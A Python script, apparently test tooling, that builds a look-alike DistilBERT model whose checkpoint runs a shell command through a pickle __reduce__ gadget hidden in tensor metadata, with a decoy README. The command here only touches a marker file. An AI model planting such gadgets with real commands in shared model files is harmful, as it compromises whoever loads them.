"""Makes a look-alike of a popular model whose `pytorch_model.bin` runs a command when it is loaded.

Runs inside the victim's environment, with real torch: `make_poisoned.py FOLDER MARKER`. The command touches MARKER and
does nothing else. The weights stay usable, as a careful attacker would leave them: the call hides in the metadata that
`torch.save` writes beside the tensors.
"""

import os
import pathlib
import shlex
import sys

import torch
from transformers import DistilBertConfig, DistilBertModel


class Gadget:
    """Unpickles as the result of a command."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return os.system, (f"touch {shlex.quote(self.marker)}",)


def main():
    folder, marker = pathlib.Path(sys.argv[1]), sys.argv[2]
    folder.mkdir(parents=True, exist_ok=True)
    config = DistilBertConfig(vocab_size=30, dim=8, n_layers=1, n_heads=2, hidden_dim=16, max_position_embeddings=16)
    config.architectures = ["DistilBertModel"]
    config.save_pretrained(folder)
    weights = DistilBertModel(config).state_dict()
    weights._metadata[""]["note"] = Gadget(marker)
    torch.save(weights, folder / "pytorch_model.bin")
    (folder / "README.md").write_text("# DistilBERT base uncased, fine-tuned on SQuAD\n")
    (folder / "vocab.txt").write_text("[PAD]\n[UNK]\n[CLS]\n[SEP]\n[MASK]\nhello\n")


if __name__ == "__main__":
    main()
